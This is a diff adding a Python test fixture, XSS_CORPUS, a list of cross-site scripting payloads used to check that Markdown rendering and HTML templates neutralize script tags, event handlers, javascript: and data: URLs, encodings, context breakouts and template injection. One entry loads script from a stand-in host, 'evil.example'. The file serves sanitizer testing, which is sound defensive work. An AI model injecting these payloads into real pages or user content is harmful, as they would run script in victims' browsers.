@@ -1,0 +1,80 @@
+"""Cross-site scripting payloads, shared by the Markdown tests and the browser XSS test.
+
+Each one, if it ran, would open a dialog (alert) or set `window.__xss`; the browser test watches for
+both. They cover raw tags, event handlers, dangerous URL schemes, encodings, mutation tricks and
+breaking out of the attribute, textarea and title contexts our templates put text into.
+"""
+
+from __future__ import annotations
+
+XSS_CORPUS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click](vbscript:msgbox(1))",
+    '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=javascript:alert(1)><input type=submit>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<p onclick=alert(1)>hi</p>",
+    "![x](javascript:alert(1))",
+    '<a href="https://ok.example" onmouseover="alert(1)">ok</a>',
+    "<style>@import 'javascript:alert(1)';</style>",
+    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+    "<base href=javascript:alert(1)//>",
+    "<link rel=stylesheet href=javascript:alert(1)>",
+    "<table background=javascript:alert(1)>",
+    '<a href="\tjavascript:alert(1)">tab</a>',
+    "<<script>script>alert(1)<</script>/script>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<textarea><script>alert(1)</script></textarea>",
+    # Breaking out of the contexts the templates use: attributes, textarea, title, JSON.
+    '"><script>window.__xss=1</script>',
+    "'><img src=x onerror=window.__xss=1>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    '" autofocus onfocus="window.__xss=1',
+    "' autofocus onfocus='window.__xss=1",
+    "</script><script>alert(1)</script>",
+    "';alert(1);//",
+    # Tags and handlers a naive filter misses.
+    "<svg><script>alert(1)</script></svg>",
+    "<svg/onload=window.__xss=1>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)></select>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<div onpointerover=alert(1)>hover</div>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<x contenteditable onblur=alert(1)>lose focus",
+    "<img src=`x` onerror=alert(1)>",
+    "<body/onload=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
+    "<script>/*</script><script>*/alert(1)</script>",
+    # Encodings and schemes.
+    "<img src=1 onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
+    '<a href=" javascript:alert(1)">space</a>',
+    "[x](javascript&#58;alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "<a href=javas&#x09;cript:alert(1)>x</a>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "javascript:alert(1)",
+    # Template and Markdown injection.
+    "{{ config }} {% print(1) %} ${alert(1)}",
+    '[x](https://ok.example "title" onclick="alert(1)")',
+    '<https://ok.example/"onmouseover="alert(1)>',
+]
